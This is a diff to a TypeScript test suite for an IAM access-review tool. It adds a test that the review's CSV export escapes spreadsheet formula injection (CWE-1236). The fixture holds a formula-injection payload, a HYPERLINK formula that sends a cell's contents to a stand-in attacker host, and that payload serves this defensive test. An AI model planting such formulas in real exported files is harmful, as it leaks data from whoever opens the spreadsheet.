@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict';
 import { after, before, describe, it } from 'node:test';
-import { reviewAccess } from '../../src/iam/review.ts';
+import { reviewAccess, reviewCsv } from '../../src/iam/review.ts';
+import { formulaLead, parseCsv } from '../support/csv.ts';
 import { account, allow, deny, IamHarness, policy } from '../support/iam-harness.ts';
 
 const orders = `arn:aws:sqs:us-east-1:${account}:orders`;
@@ -86,5 +87,20 @@ describe('the access review (PCI DSS 7.2.4)', () => {
     assert.equal(kinds('unused-access-key').length, 2);
     assert.match(kinds('unused-access-key')[0]!, /never used/);
     assert.equal(kinds('inactive-login').length, 1);
+  });
+
+  it('writes the review as CSV whose cells a spreadsheet reads as text, never as formulas (CWE-1236)', async () => {
+    // No name IAM accepts starts a cell today (principals are ARNs); the CSV must hold whatever a detail says.
+    const detail = '=HYPERLINK("https://attacker.example/?leak="&A1,"Fix")';
+    const reviewed = await review();
+    reviewed.findings.push({ kind: 'wildcard-grant', subject: '@SUM(1+1)', detail });
+    const [header, ...rows] = parseCsv(reviewCsv(reviewed), ',');
+    assert.deepEqual(header, ['kind', 'resource_or_subject', 'principal', 'actions', 'via', 'detail']);
+    assert.equal(rows.length, reviewed.grants.length + reviewed.findings.length);
+    assert.deepEqual(rows.at(-1), ['wildcard-grant', "'@SUM(1+1)", '', '', '', `'${detail}`]);
+    for (const cells of rows) {
+      assert.equal(cells.length, header!.length);
+      for (const cell of cells) assert.doesNotMatch(cell, formulaLead);
+    }
   });
 });
